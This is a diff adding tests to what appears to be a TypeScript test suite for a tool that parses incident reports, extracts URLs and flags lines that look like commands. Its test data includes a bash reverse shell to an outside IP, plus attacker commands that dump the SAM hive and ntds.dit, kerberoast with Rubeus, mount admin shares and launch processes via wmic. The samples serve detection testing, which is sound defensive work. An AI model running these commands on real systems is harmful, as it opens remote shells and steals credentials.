@@ -47,6 +47,32 @@ test('the URLs that a text names are taken apart too where somebody offers that,
   expect(asked('another')).toEqual([]);
 });
 
+test('what a text names is looked up once for all its URLs, and not at all when none is left to ask about', () => {
+  let read = 0;
+  const iocs = Array.from({ length: 3 }, (_, nth) => ({ type: 'url', value: `http://example.com/${nth}` }));
+  const text = {
+    ...resultOf({ iocs }),
+    get extracted() {
+      read += 1;
+      return iocs.map(({ type, value }, nth) => ({ type, value, line: nth + 1 }));
+    },
+  };
+  const asked = (...steps: string[]) => {
+    read = 0;
+    const settled = new Map<string, unknown>([['text', text], ...steps.map((step) => [step, {}] as const)]);
+    const urls = rulesPlanner
+      .next({ ...situation(), kind: 'report', settled, offers: () => true })
+      .filter(({ skill }) => skill === 'analyze_url');
+    return urls.map(({ params }) => (params.origin as { locator: string }).locator);
+  };
+  expect(asked()).toEqual(['line 1', 'line 2', 'line 3']);
+  const at_once = read;
+  expect(asked('url-1', 'url-2')).toEqual(['line 3']);
+  expect(read).toBe(at_once);
+  expect(asked('url-1', 'url-2', 'url-3')).toEqual([]);
+  expect(read).toBeLessThan(at_once);
+});
+
 test('the commands of a script go to who judges commands, beside the text', () => {
   const text = 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1';
   const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands: [{ text, line: 3 }] });
@@ -70,6 +96,23 @@ test.each([
   ['a.txt', '[1] The report of the vendor (New-Object is a cmdlet)', undefined],
   ['a.txt', 'The actor ran:\nwhoami\nand then left the host.', undefined],
   ['a.txt', 'curl was used with -x here.', undefined],
+  ['a.txt', "Mimikatz wasn't found on WS01", undefined],
+  ['a.txt', "Procdump can't read lsass on WS01", undefined],
+  ['a.txt', "Procdump on WS01 can’t read 'lsass'", undefined],
+  ['a.txt', "The helpdesk's view: Mimikatz", undefined],
+  ['a.txt', "Mimikatz on the helpdesk's list", undefined],
+  ['a.txt', 'Mimikatz was found in C:\\Temp on WS01', undefined],
+  ['a.txt', 'Mimikatz, a tool, lay in C:\\Temp on WS01', undefined],
+  ['a.txt', 'Python was installed to C:\\Python39 by the helpdesk', undefined],
+  ['a.txt', 'Python got installed to C:\\Python39 by the helpdesk', undefined],
+  ['a.txt', 'reg C:\\Users\\bob was full', undefined],
+  ['a.txt', 'net use stands for mapping drives on \\\\fileserver', undefined],
+  ['a.txt', 'net use Z: \\\\fileserver\\c$', 1],
+  ['a.txt', 'reg save HKLM\\SAM C:\\Temp\\sam.hiv', 1],
+  ['a.txt', 'python "C:\\Users\\Public\\a b.py" whatever', 1],
+  ['a.txt', 'esentutl.exe vss C:\\Windows\\ntds.dit', 1],
+  ['a.txt', "rubeus 'kerberoast'", 1],
+  ['a.txt', 'wmic process call create C:\\Temp\\a.exe', 1],
 ])('%s with %j is a script of so many commands: %s', (name, text, count) => {
   expect(scriptOf(Buffer.from(text), name, 65_536)?.commands.length).toBe(count);
 });
@@ -81,6 +124,21 @@ test('a line that looks like a command in a text that is no script is told as un
     { what: '1 line that looks like a command, the first in line 4' },
   ]);
   expect(commandsUnread(Buffer.from('The host was slow.\nNobody knows why - we looked.\n'))).toEqual([]);
+});
+
+test.each([
+  ['google.com was visited by the user.', 0],
+  ['acme.com Newsletter for you', 0],
+  ['acme.com - the newsletter', 0],
+  ['$5 = 4 EUR', 0],
+  ['setup.exe could not be opened', 0],
+  ['setup.exe /S was run for all, by the helpdesk today.', 0],
+  ['$url = $env:TEMP', 1],
+  ['evil.exe install C:\\ProgramData\\a', 1],
+  ['evil.exe --install', 1],
+  ['Invoke-Evil -Target WS01', 1],
+])('%j has so many lines that look like a command: %i', (text, count) => {
+  expect(commandsUnread(Buffer.from(`The host was slow.\n${text}\n`))).toHaveLength(count);
 });
 
 test('what a text names is cited where it stands: a URL by its line, a command line of an alert by its field', () => {
